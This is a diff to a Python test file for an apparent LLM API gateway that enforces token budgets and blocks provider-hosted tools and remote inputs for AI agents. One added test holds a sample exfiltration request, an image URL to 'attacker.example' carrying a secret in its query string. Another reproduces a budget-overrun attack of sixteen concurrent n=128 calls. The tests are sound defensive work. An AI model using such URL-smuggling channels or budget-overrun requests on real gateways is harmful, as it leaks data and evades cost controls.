@@ -112,6 +112,26 @@ def test_the_worst_case_counts_every_answer_asked_for(api: WireApi, body: dict[s
     assert worst_case(call, PriceBook()).tokens == call.bytes_in + 1000 * answers
 
 
+@pytest.mark.parametrize(("api", "body", "output"), [
+    # proto3 JSON (Gemini) and pydantic's lax mode (vLLM, compatible servers) take a number
+    # written as a string or as an integral float; a provider honours whichever spelling it
+    # reads: the reservation is the largest of them (security review 2, finding 1)
+    ("gemini", {"generationConfig": {"candidateCount": "8", "maxOutputTokens": 1000}}, 8000),
+    ("gemini", {"generationConfig": {"candidateCount": 8.0, "maxOutputTokens": 1000}}, 8000),
+    ("gemini", {"generationConfig": {"max_output_tokens": 10, "maxOutputTokens": "6000"}}, 6000),
+    ("gemini", {"generationConfig": {"maxOutputTokens": 10},
+                "generation_config": {"maxOutputTokens": 6000, "candidateCount": 8}}, 48000),
+    ("chat", {"n": "128", "max_tokens": 1000}, 128000),
+    ("chat", {"n": 128.0, "max_tokens": "1000"}, 128000),
+    ("chat", {"max_completion_tokens": 10, "max_tokens": 6000}, 6000),
+    ("chat", {"n": "many", "max_tokens": float("inf")}, DEFAULT_OUTPUT_RESERVE),
+])
+def test_the_worst_case_reads_every_spelling_a_provider_accepts(
+        api: WireApi, body: dict[str, Any], output: int) -> None:
+    call = _call(api, body)
+    assert worst_case(call, PriceBook()).tokens == call.bytes_in + output
+
+
 @pytest.mark.parametrize(("api", "wire", "base_url", "where"), [
     ("chat", "chat", "http://127.0.0.1:1/v1", ("max_tokens",)),
     ("chat", "chat", "https://api.openai.com/v1", ("max_completion_tokens",)),
@@ -192,17 +212,25 @@ HI = [{"role": "user", "content": "hi"}]
 async def test_concurrent_calls_asking_many_choices_do_not_overrun_the_budget(
         recorder: tuple[Recorder, int]) -> None:
     """The review's attack: 16 calls at once, n=128, max_tokens=1000, a 20,000-token budget.
-    Each call's worst case is 128,000 tokens: one is served alone, the rest are refused."""
+    Each call's worst case is 128,000 tokens: none is served (review 2: the one served alone
+    overran the budget 6.4 times; a lone call over what is left is served only when it asks
+    one answer). Calls asking several answers that fit are served."""
     rec, port = recorder
     gw = await _gateway(port)
     try:
         token = gw.open_trial("t", "up/m", budget=Budget(max_tokens=20_000))
         got = await asyncio.gather(*(_post(gw, token, {"messages": HI, "n": 128,
                                                        "max_tokens": 1000}) for _ in range(16)))
+        assert sorted(status for status, _ in got) == [429] * 16
+        assert "asks for 128 answers" in json.dumps(got[0][1])
+        assert not rec.seen
+        status, _ = await _post(gw, token, {"messages": HI, "n": 4, "max_tokens": 1000})
+        assert status == 200 and rec.seen[-1]["n"] == 4  # it fits: served
+        status, _ = await _post(gw, token, {"messages": HI, "max_tokens": 30_000})
+        assert status == 200  # one answer: served alone though over what is left
         meter = gw.close_trial("t")
-        assert sorted(status for status, _ in got) == [200] + [429] * 15
-        assert len(rec.seen) == 1 and meter.budget_exceeded
-        assert meter.charged_tokens == 10 + 128 * 1000  # one call over, never sixteen
+        assert meter.budget_exceeded and len(rec.seen) == 2
+        assert meter.charged_tokens == 10 + 4 * 1000 + 10 + 30_000  # never 128 answers
     finally:
         await gw.stop()
 
@@ -229,6 +257,41 @@ async def test_hosted_tools_and_stored_inputs_are_refused_or_dropped(
         status, _ = await _post(gw, allowed, {"messages": HI, "max_tokens": 5,
                                               "web_search_options": {}})
         assert status == 200 and rec.seen[-1]["web_search_options"] == {}
+        # review 2: an image URL the provider fetches (an exfiltration channel; input tokens
+        # its bytes do not bound) is refused without internet, a data: URL is not
+        leak = [{"role": "user", "content": [{"type": "image_url", "image_url": {
+            "url": "https://attacker.example/x.png?secret=1"}}]}]
+        token = gw.open_trial("t3", "up/m")
+        seen = len(rec.seen)
+        status, answer = await _post(gw, token, {"messages": leak, "max_tokens": 5})
+        assert status == 400 and "image_url.url" in answer["error"]["message"]
+        assert len(rec.seen) == seen
+        inline = [{"role": "user", "content": [{"type": "image_url", "image_url": {
+            "url": "data:image/png;base64,iVBORw0KGgo="}}]}]
+        status, _ = await _post(gw, token, {"messages": inline, "max_tokens": 5})
+        assert status == 200
+        status, _ = await _post(gw, allowed, {"messages": leak, "max_tokens": 5})
+        assert status == 200
+    finally:
+        await gw.stop()
+
+
+async def test_refusals_beyond_the_cap_are_answered_not_recorded(
+        recorder: tuple[Recorder, int], monkeypatch: pytest.MonkeyPatch) -> None:
+    """Security review 2: every refused request was a call record (memory and store), and
+    refusals never stop the agent: a loop of them grew without bound."""
+    from agentmeter.gateway import calls
+
+    monkeypatch.setattr(calls, "MAX_RECORDED_REFUSALS", 2, raising=False)
+    rec, port = recorder
+    gw = await _gateway(port)
+    try:
+        token = gw.open_trial("t", "up/m")
+        got = [await _post(gw, token, {"messages": HI, "max_tokens": 5, "plugins": [{}]})
+               for _ in range(4)]
+        assert [status for status, _ in got] == [400] * 4 and not rec.seen
+        meter = gw.close_trial("t")
+        assert len(meter.calls) == 2 and meter.refused == 4
     finally:
         await gw.stop()
 
@@ -242,6 +305,32 @@ async def test_hosted_tools_and_stored_inputs_are_refused_or_dropped(
 ])
 def test_hosted_fields_per_api(api: WireApi, body: dict[str, Any], field: str | None) -> None:
     assert hosted.hosted_field(api, body) == field
+
+
+@pytest.mark.parametrize(("body", "found"), [
+    ({"messages": [{"role": "user", "content": [{"type": "image_url", "image_url": {
+        "url": "https://a.example/i.png"}}]}]}, "image_url.url"),
+    ({"messages": [{"role": "user", "content": [{"type": "file", "file": {"file_id": "f"}}]}]},
+     "file.file_id"),
+    ({"input": [{"role": "user", "content": [{"type": "input_image",
+                                              "image_url": "https://a.example/i.png"}]}]},
+     "input_image.url"),
+    ({"input": [{"role": "user", "content": [{"type": "input_file", "file_id": "f"}]}]},
+     "input_file.file_id"),
+    ({"messages": [{"role": "user", "content": [{"type": "tool_result", "content": [
+        {"type": "image", "source": {"type": "url", "url": "https://a.example/i"}}]}]}]},
+     "image.source.url"),
+    ({"contents": [{"parts": [{"file_data": {"file_uri": "https://youtube.com/watch?v=x"}}]}]},
+     "fileData.fileUri"),
+    ({"messages": [{"role": "user", "content": [{"type": "image_url", "image_url": {
+        "url": "data:image/png;base64,AAAA"}}, {"type": "image", "source": {
+            "type": "base64", "data": "AAAA"}}]}],
+      "tools": [{"type": "function", "function": {"name": "f", "parameters": {
+          "type": "object", "properties": {"image_url": {"type": "string"},
+                                           "file_id": {"type": "string"}}}}}]}, None),
+])
+def test_remote_inputs_are_found_in_every_api(body: dict[str, Any], found: str | None) -> None:
+    assert hosted.remote_input(body) == found
 
 
 @pytest.mark.parametrize(("api", "tools", "kept"), [
